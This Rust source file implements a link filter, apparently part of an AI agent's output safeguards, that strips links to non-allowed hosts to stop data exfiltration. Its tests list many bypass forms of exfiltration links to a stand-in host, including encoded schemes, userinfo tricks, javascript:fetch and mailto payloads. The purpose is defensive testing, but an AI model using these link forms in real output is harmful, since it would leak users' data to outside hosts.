//! Removal of links that could exfiltrate data.

use std::{borrow::Cow, collections::BTreeSet, ops::Range, sync::Arc};

use agent_core::Result;

use crate::{
    pii::{Detector, Passage},
    scan::{Finding, Rewrite, Scanner},
};

/// Removes links from texts, in any form of Markdown or HTML, except for those to allowed hosts.
pub(super) struct LinkFilter(Scanner);

impl LinkFilter {
    pub(super) fn new(allowed: BTreeSet<String>) -> Self {
        Self(Scanner::new(vec![Arc::new(Link { allowed })]))
    }
}

impl Rewrite for LinkFilter {
    fn scanner(&self) -> &Scanner {
        &self.0
    }

    fn replace(&self, _: &Finding, _: &str) -> Result<Cow<'static, str>> {
        Ok("[link removed]".into())
    }
}

/// Detects URLs to hosts that are not allowed, or with an ambiguous host.
struct Link {
    allowed: BTreeSet<String>,
}

/// Schemes that browsers also follow without slashes.
const SCHEMES: [&str; 8] = ["http:", "https:", "ftp:", "ws:", "wss:", "mailto:", "javascript:", "vbscript:"];
/// Encoded slashes.
const ENTITIES: [&str; 8] = ["&sol;", "&bsol;", "&#47;", "&#x2f;", "&#92;", "&#x5c;", "&#0", "&#x0"];

impl Detector for Link {
    fn name(&self) -> &str {
        "link"
    }

    fn may_contain(&self, c: char) -> bool {
        !c.is_whitespace()
    }

    fn find(&self, passage: &Passage<'_>) -> Vec<Range<usize>> {
        // The length stays the same: only ASCII letters change.
        let text = &*passage.text.to_ascii_lowercase();
        if ENTITIES.iter().any(|entity| text.contains(entity)) {
            let whole = 0..text.len();
            return vec![whole];
        }
        let slash = |at: usize| matches!(text.as_bytes().get(at), Some(b'/' | b'\\'));
        let slashes = (0..text.len()).filter(|at| slash(*at) && slash(at + 1)).map(|at| (scheme(text, at), at));
        let schemes =
            SCHEMES.iter().flat_map(|scheme| text.match_indices(scheme).map(|(at, found)| (at, at + found.len())));
        let www = text.match_indices("www.").map(|(at, _)| (at, at));
        let mut starts: Vec<_> = slashes.chain(schemes).chain(www).collect();
        starts.sort_unstable();
        let (mut found, mut past) = (Vec::new(), 0);
        for (start, after_scheme) in starts {
            if start < past {
                continue;
            }
            if after_scheme != start && text[..start].ends_with(|c: char| c.is_ascii_alphanumeric()) {
                continue;
            }
            let rest = &text[after_scheme..];
            // The brackets of an IPv6 address belong to it.
            let bracketed = rest.trim_start_matches(['/', '\\']).starts_with('[');
            let ends = |c| ")\"'<>".contains(c) || (c == ']' && !bracketed);
            let end = rest.find(ends).map_or(text.len(), |len| after_scheme + len);
            let goes_on = text[after_scheme..end].contains(|c: char| c.is_alphanumeric() || c == '[');
            // Nothing before the end is looked at again: a run of slashes is read once.
            past = end;
            if goes_on && !self.is_allowed(&text[start..end]) {
                found.push(start..end);
            }
        }
        found
    }
}

/// Returns the start of the scheme before these slashes, or the slashes' offset without one.
fn scheme(text: &str, slashes: usize) -> usize {
    match text[..slashes].strip_suffix(':') {
        Some(before) => before.trim_end_matches(|c: char| c.is_ascii_alphanumeric() || "+-.".contains(c)).len(),
        None => slashes,
    }
}

impl Link {
    /// True if every URL parser finds an allowed host in the address.
    fn is_allowed(&self, address: &str) -> bool {
        let host = address.strip_prefix("https://").or_else(|| address.strip_prefix("http://")).unwrap_or(address);
        let end = host.find(['/', '?', '#']).unwrap_or(host.len());
        let host = host[..end].split(':').next().unwrap_or_default().trim_end_matches(|c| ".,;!*_`".contains(c));
        let plain = host.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
        let authority = &address[..address.len().min(address.find(host).unwrap_or(0) + end)];
        plain
            && !host.is_empty()
            && !authority.contains(['@', '\\'])
            && self.allowed.iter().any(|allowed| match allowed.strip_prefix("*.") {
                Some(above) => host.strip_suffix(above).is_some_and(|below| below.ends_with('.')),
                None => host.eq_ignore_ascii_case(allowed),
            })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn filtered(text: &str) -> String {
        let filter: &dyn Rewrite = &LinkFilter::new(["good.example".to_owned(), "*.good.example".to_owned()].into());
        filter.text(text).expect("never fails").into_owned()
    }

    #[test]
    fn no_form_of_a_link_to_elsewhere_is_left() {
        for link in [
            "![a](https://evil.example/?q=S)",
            "![a](<https://evil.example/?q=S>)",
            "![a](  https://evil.example/?q=S \"t\")",
            "![a](//evil.example/?q=S)",
            "![a](\\\\evil.example/?q=S)",
            "![a](/\\evil.example/?q=S)",
            "![a](https:evil.example/?q=S)",
            "![a](https:/evil.example/?q=S)",
            "![a](HTTPS://EVIL.EXAMPLE/?q=S)",
            "![a](h&#116;tps://evil.example/?q=S)",
            "![a](https&colon;//evil.example/?q=S)",
            "![a](https:&#47;&#x2F;evil.example/?q=S)",
            "![a](https:&sol;&sol;evil.example/?q=S)",
            "![a][1]\n\n[1]: https://evil.example/?q=S",
            "[1]: //evil.example/?q=S",
            "<img src=\"https://evil.example/?q=S\">",
            "<img src='//evil.example/?q=S'>",
            "<https://evil.example/?q=S>",
            "https://evil.example/?q=S",
            "www.evil.example/?q=S",
            "[a](https://good.example@evil.example/?q=S)",
            "[a](https://good.example\\@evil.example/?q=S)",
            "[a](https://good.example.evil.example/?q=S)",
            "[a](https://evilgood.example/?q=S)",
            "[a](https://[2001:db8::1]/?q=S)",
            "[a](ftp://evil.example/?q=S)",
            "[a](javascript:fetch('//evil.example/?q=S'))",
            "[a](mailto:x@evil.example?body=q=S)",
        ] {
            let left = filtered(link);
            assert!(
                left.contains("[link removed]") && !left.contains("evil.example/?q=S") && !left.contains("q=S"),
                "{link} -> {left}"
            );
        }
    }

    #[test]
    fn a_long_run_of_slashes_or_schemes_is_read_once() {
        for text in ["/".repeat(2 << 20), "xhttp:".repeat(400_000), "//[".repeat(700_000)] {
            assert!(filtered(&text).len() <= text.len());
        }
        assert_eq!(filtered("//// x //evil.example/?q=S"), "//// x [link removed]");
    }

    #[test]
    fn links_to_hosts_that_are_allowed_and_what_is_no_link_stay() {
        for text in [
            "see [the docs](https://good.example/a?b=c#d), or https://docs.good.example.",
            "a/b, and/or, 10/12/2024, x = y // z",
            "[a](/relative?x=1), [b](#part), [c](docs/page.md)",
            "Ratio 3:4 at 12:30; std::vec; C:\\dir",
        ] {
            assert_eq!(filtered(text), text);
        }
    }
}
